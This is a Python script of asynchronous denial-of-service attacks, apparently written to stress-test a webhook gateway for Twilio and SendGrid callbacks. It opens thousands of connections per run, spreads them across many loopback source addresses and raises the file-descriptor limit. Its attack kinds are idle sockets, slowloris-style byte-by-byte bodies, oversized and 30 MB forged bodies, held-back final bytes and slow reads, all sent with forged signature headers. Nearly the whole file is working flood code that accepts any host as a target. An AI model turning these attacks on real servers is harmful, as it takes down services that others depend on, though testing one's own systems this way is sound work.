"""Attacks that the standard tools do not provide. One per process: attack.py KIND HOST PORT COUNT SECONDS."""

import asyncio
import resource
import socket
import sys
import time

HEAD = (
    "POST /voice HTTP/1.1\r\nHost: hooks.example.com\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n"
    "X-Twilio-Signature: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\nContent-Length: {}\r\n\r\n"
)


MAIL = (
    "POST /sendgrid HTTP/1.1\r\nHost: hooks.example.com\r\n"
    "Content-Type: multipart/form-data; boundary=xYzZY\r\n"
    "X-Twilio-Email-Event-Webhook-Timestamp: 1600112502\r\n"
    "X-Twilio-Email-Event-Webhook-Signature: "
    "MEUCIGHQVtGj+Y3LkG9fLcxf3qfI10QysgDWmMOVmxG0u6ZUAiEAyBiXDWzM+uOe5W0JuG+luQAbPIqHh89M15TluLtEZtM=\r\n"
    "Content-Length: {}\r\n\r\n"
)


async def connect(host: str, port: int, number: int):
    """From one of many addresses of this machine: no more than 1,000 connections each."""
    source = (f"127.0.0.{2 + number // 1000}", 0) if host == "127.0.0.1" else None
    return await asyncio.open_connection(host, port, local_addr=source)


async def idle(host, port, number, until):
    """Connects and sends nothing."""
    reader, writer = await connect(host, port, number)
    await asyncio.wait_for(reader.read(), until - time.monotonic())
    writer.close()


async def slow_body(host, port, number, until):
    """A forged head, and then a byte of its body each half second."""
    _, writer = await connect(host, port, number)
    writer.write(HEAD.format(200_000).encode())
    while time.monotonic() < until:
        writer.write(b"a")
        await writer.drain()
        await asyncio.sleep(0.5)
    writer.close()


async def big_body(host, port, number, until, size=262_144):
    """Forged bodies as long as a body may be, one after the other."""
    while time.monotonic() < until:
        reader, writer = await connect(host, port, number)
        writer.write(HEAD.format(size).encode() + b"a" * size)
        await writer.drain()
        await reader.readuntil(b"\r\n\r\n")
        writer.close()


async def too_big(host, port, number, until):
    """The same with one more byte."""
    await big_body(host, port, number, until, 262_145)


async def big_mail(host, port, number, until, size=30 * 1024 * 1024):
    """Forged mails of 30 MB, one after the other."""
    chunk = b"a" * 262_144
    reader, writer = await connect(host, port, number)
    writer.write(MAIL.format(size).encode())
    for _ in range(size // len(chunk)):
        writer.write(chunk)
        await writer.drain()
    await reader.readuntil(b"\r\n\r\n")
    writer.close()


async def held_body(host, port, number, until):
    """All of a forged body but its last byte, held for as long as the gate waits."""
    reader, writer = await connect(host, port, number)
    writer.write(HEAD.format(262_144).encode() + b"a" * 262_143)
    await writer.drain()
    await asyncio.wait_for(reader.read(), until - time.monotonic())
    writer.close()


async def slow_read(host, port, number, until):
    """Sends requests continuously and never reads a response."""
    address = (host, port)
    with socket.socket() as plain:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        plain.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(plain, address)
        request = b"GET /voice HTTP/1.1\r\nHost: hooks.example.com\r\n\r\n" * 50
        while (left := until - time.monotonic()) > 0:
            await asyncio.wait_for(loop.sock_sendall(plain, request), left)


async def again(attack, host, port, number, until):
    """Reconnects after each disconnect."""
    await asyncio.sleep(number % 100 / 200)
    while time.monotonic() < until:
        try:
            await attack(host, port, number, until)
        except (OSError, EOFError, asyncio.TimeoutError):
            await asyncio.sleep(0.1)


async def main() -> None:
    kind, host, port, count, seconds = sys.argv[1:]
    attack = {f.__name__: f for f in (idle, slow_body, big_body, big_mail, too_big, held_body, slow_read)}[kind]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    until = time.monotonic() + float(seconds)
    await asyncio.gather(*(again(attack, host, int(port), n, until) for n in range(int(count))))


asyncio.run(main())
